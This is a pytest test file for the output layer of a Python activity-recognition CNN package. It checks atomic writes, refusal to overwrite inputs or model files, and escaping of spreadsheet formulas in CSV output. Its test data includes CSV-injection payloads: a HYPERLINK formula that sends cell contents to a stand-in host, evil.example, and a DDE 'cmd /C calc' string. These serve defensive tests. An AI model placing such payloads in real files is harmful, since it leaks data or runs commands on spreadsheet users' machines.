"""`harcnn.outputs`: every file written whole or not at all, CSV cells escaped for spreadsheets,
outputs checked before work (writable, not an input, not a model's own file through a link), and a
model folder whose two files come from two savings refused."""

import csv
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import numpy as np
import pytest

import harcnn
from harcnn.errors import HarcnnError
from harcnn.outputs import atomic_output, spreadsheet_safe, write_csv
from helpers import SPEC, cli, fails, invoke, synthetic, windows_npz
from helpers import write_csv as write_phone

FORMULAS = ['=HYPERLINK("http://evil.example/"&A1,"walk")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tstart", "\rx"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_cells_a_spreadsheet_would_run_get_an_apostrophe(cell, tmp_path):
    assert spreadsheet_safe(cell) == "'" + cell
    write_csv(tmp_path / "t.csv", ["name", "p"], [[cell, "0.5000"]])
    with open(tmp_path / "t.csv", newline="") as f:
        assert list(csv.reader(f))[1] == ["'" + cell, "0.5000"]


@pytest.mark.parametrize("cell", ["WALKING", "-1.25", "+3", "1e-3", 7, "walk=fast"])
def test_numbers_and_plain_text_stay_as_they_are(cell):
    assert spreadsheet_safe(cell) == cell


def wrist(folder: Path, labels: tuple[str, str], subjects=("a1", "b2", "c3")) -> Path:
    """An accelerometer in g at 25 Hz: the first label still, the second shaking at 3 Hz."""
    rng = np.random.default_rng(0)
    folder.mkdir()
    for subject in subjects:
        t = np.arange(1000) / 25
        moving = (t // 10) % 2 == 1
        shake = np.where(moving, 0.6 * np.sin(2 * np.pi * 3 * t), 0.0)
        acc = np.c_[shake, 0.2 * shake, 1 + 0.1 * shake] + rng.normal(0, 0.02, (len(t), 3))
        with open(folder / f"{subject}.csv", "w", newline="") as f:
            rows = csv.writer(f)
            rows.writerow(["timestamp", "acc_x", "acc_y", "acc_z", "label", "subject"])
            rows.writerows([f"{ti:.2f}", *map("{:.4f}".format, a), labels[int(m)], subject] for ti, a, m in zip(t, acc, moving))
    return folder


def test_class_names_from_a_users_labels_are_escaped_in_predictions(tmp_path):
    """A label column holding a formula: the dataset, the model and its predictions keep the name,
    and no CSV harcnn writes (nor a streamed line) lets a spreadsheet run it."""
    evil = FORMULAS[0]
    folder = wrist(tmp_path / "rec", ("rest", evil))
    invoke("data", "recordings", folder, "--out", tmp_path / "d.npz", "--window", 2, "--rate", 25, "--test-subjects", "c3")
    spec = tmp_path / "s.toml"
    spec.write_text('model = "cnn"\nepochs = 2\nbatch_size = 16\n[hparams]\nfilters = 8\ndense = 16\n')
    invoke("train", spec, "--data", tmp_path / "d.npz", "--out", tmp_path / "m")
    assert evil in harcnn.load(tmp_path / "m").classes_.tolist()
    invoke("predict", tmp_path / "m", folder / "c3.csv", "--out", tmp_path / "p.csv")
    with open(tmp_path / "p.csv", newline="") as f:
        rows = list(csv.reader(f))
    cells = [cell for row in rows for cell in row]
    assert "'" + evil in cells and not any(c.startswith(("=", "+", "@")) for c in cells)
    samples = "\n".join(",".join(line.split(",")[1:4]) for line in (folder / "c3.csv").read_text().splitlines()[1:]) + "\n"
    streamed = list(csv.reader(invoke("predict", tmp_path / "m", "--stream", input=samples).splitlines()))
    assert streamed and all(not row[2].startswith("=") for row in streamed) and any(row[2] == "'" + evil for row in streamed)


def test_a_writer_killed_mid_write_leaves_the_old_file(tmp_path):
    target = tmp_path / "data.npz"
    target.write_bytes(b"the old dataset")
    script = textwrap.dedent(f"""
        import os, signal
        from harcnn.outputs import atomic_output
        with atomic_output({str(target)!r}) as tmp:
            with open(tmp, "wb") as f:
                f.write(b"half of the new")
                f.flush()
                os.kill(os.getpid(), signal.SIGKILL)
    """)
    done = subprocess.run([sys.executable, "-c", script])
    assert done.returncode == -9 and target.read_bytes() == b"the old dataset"


def test_a_failed_write_leaves_the_old_file_and_no_temporary(tmp_path):
    target = tmp_path / "runs.csv"
    target.write_text("old")
    with pytest.raises(HarcnnError, match="runs.csv: cannot write .*the file there before, if any, is unchanged"):
        with atomic_output(target) as tmp:
            tmp.write_text("new, half")
            raise OSError(28, "No space left on device")
    assert target.read_text() == "old" and os.listdir(tmp_path) == ["runs.csv"]


@pytest.fixture
def small_disk(tmp_path):
    """A 256 KiB file system (a tmpfs), where the machine lets this process mount one."""
    mount = tmp_path / "disk"
    mount.mkdir()
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mount)], capture_output=True)
    if done.returncode != 0:
        pytest.skip(
            f"cannot mount a small file system here ({done.stderr.decode().strip() or 'not root'}); the atomic writer is tested by the other tests"
        )
    yield mount
    subprocess.run(["umount", str(mount)])


def test_a_full_disk_is_one_error_and_keeps_the_old_dataset(monkeypatch, capsys, tmp_path, small_disk):
    folder = wrist(tmp_path / "rec", ("rest", "shake"))
    old = small_disk / "d.npz"
    old.write_bytes(b"x" * 1000)
    text = fails(monkeypatch, capsys, "No space left on device", "data", "recordings", folder, "--out", old, "--rate", 25, "--overlap", 0.9)
    assert "the file there before, if any, is unchanged" in text
    assert old.read_bytes() == b"x" * 1000 and os.listdir(small_disk) == ["d.npz"]


def test_a_read_only_destination_is_refused_before_training(monkeypatch, capsys, tmp_path, small_disk):
    subprocess.run(["mount", "-o", "remount,ro", str(small_disk)], check=True)
    spec = tmp_path / "s.toml"
    spec.write_text('model = "cnn"\nepochs = 50\n')
    fails(monkeypatch, capsys, "cannot write in", "train", spec, "--out", small_disk / "m", "--data", "nowhere.zip")


def test_model_files_from_two_savings_are_refused(tmp_path):
    rng = np.random.default_rng(0)
    X, y = rng.normal(size=(32, 3, 16)).astype(np.float32), np.arange(32) % 2
    for seed in (0, 1):
        harcnn.HARClassifier(epochs=1, filters=4, dense=8, random_state=seed).fit(X, y).save(tmp_path / f"m{seed}")
    shutil.copy(tmp_path / "m1" / "model.safetensors", tmp_path / "m0" / "model.safetensors")
    with pytest.raises(HarcnnError, match="m0: model.safetensors is not the file model.json was saved with"):
        harcnn.load(tmp_path / "m0")
    assert oct(os.stat(tmp_path / "m1" / "model.safetensors").st_mode & 0o777) == oct(0o666 & ~_umask())


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


def test_an_output_linked_to_a_models_weights_is_refused(monkeypatch, capsys, tmp_path):
    rng = np.random.default_rng(0)
    harcnn.HARClassifier(epochs=1, filters=4, dense=8).fit(rng.normal(size=(16, 2, 16)), np.arange(16) % 2).save(tmp_path / "m")
    weights = (tmp_path / "m" / "model.safetensors").read_bytes()
    (tmp_path / "out.onnx").symlink_to(tmp_path / "m" / "model.safetensors")
    fails(monkeypatch, capsys, "is one of the model folder", "export", tmp_path / "m", "--out", tmp_path / "out.onnx")
    assert (tmp_path / "m" / "model.safetensors").read_bytes() == weights


def test_predictions_are_written_whole(monkeypatch, capsys, tmp_path):
    """`predict --out` over an existing file replaces it only once the new one is complete."""
    from helpers import synthetic

    rng = np.random.default_rng(0)
    model = tmp_path / "m"
    harcnn.HARClassifier(epochs=1, filters=4, dense=8).fit(
        rng.normal(size=(16, 9, 128)), np.arange(16) % 2, channels=harcnn_channels()
    ).save(model)
    (tmp_path / "p.csv").write_text("old")
    code, text = cli(monkeypatch, capsys, "predict", model, write_phone(tmp_path / "r.csv", synthetic(1000)), "--out", tmp_path / "p.csv")
    assert code == 0, text
    assert (tmp_path / "p.csv").read_text().startswith("start_s,end_s,activity,p_0,p_1") and sorted(os.listdir(tmp_path)) == [
        "m",
        "p.csv",
        "r.csv",
    ]


def harcnn_channels() -> list[str]:
    from harcnn.data.sensors import CHANNELS

    return list(CHANNELS)


@pytest.mark.parametrize("command", ["train", "predict", "import"])
def test_out_into_a_missing_folder(monkeypatch, capsys, tmp_path, trained, tiny_zip, command):
    target = tmp_path / "no" / "such" / "place"
    if command == "train":
        spec = tmp_path / "s.toml"
        spec.write_text(SPEC)
        args = ["train", spec, "--data", tiny_zip, "--out", target]
    elif command == "predict":
        args = ["predict", trained, write_phone(tmp_path / "p.csv", synthetic(300)), "--out", target]
    else:
        np.savez(tmp_path / "w.npz", X=np.zeros((8, 2, 16)), y=np.arange(8) % 2, subject=np.arange(8) % 4)
        args = ["data", "import", tmp_path / "w.npz", "--out", target.with_suffix(".npz")]
    fails(monkeypatch, capsys, "does not exist", *args)


def test_import_never_overwrites_its_source(monkeypatch, capsys, tmp_path):
    source = windows_npz(tmp_path / "w.npz")
    before = source.read_bytes()
    fails(monkeypatch, capsys, "is also an input of this command", "data", "import", source, "--out", source)
    assert source.read_bytes() == before


@pytest.mark.parametrize(
    "command, target, message",
    [
        ("export", "model.safetensors", "own files; writing it would destroy the model"),
        ("predict", "model.json", "own files; writing it would destroy the model"),
        ("export", ".", "is a folder; give a file name"),
        ("predict", ".", "is a folder; give a file name"),
        ("evaluate", "model.json", "is a file; give a folder"),
    ],
)
def test_outputs_never_destroy_a_model(monkeypatch, capsys, tmp_path, trained, command, target, message):
    import shutil

    model = shutil.copytree(trained, tmp_path / "m")
    before = {p.name: p.read_bytes() for p in model.iterdir()}
    args = {
        "export": ["export", model],
        "predict": ["predict", model, write_phone(tmp_path / "p.csv", synthetic(300))],
        "evaluate": ["evaluate", model],
    }[command]
    fails(monkeypatch, capsys, message, *args, "--out", model / target if target != "." else tmp_path)
    assert {p.name: p.read_bytes() for p in model.iterdir()} == before
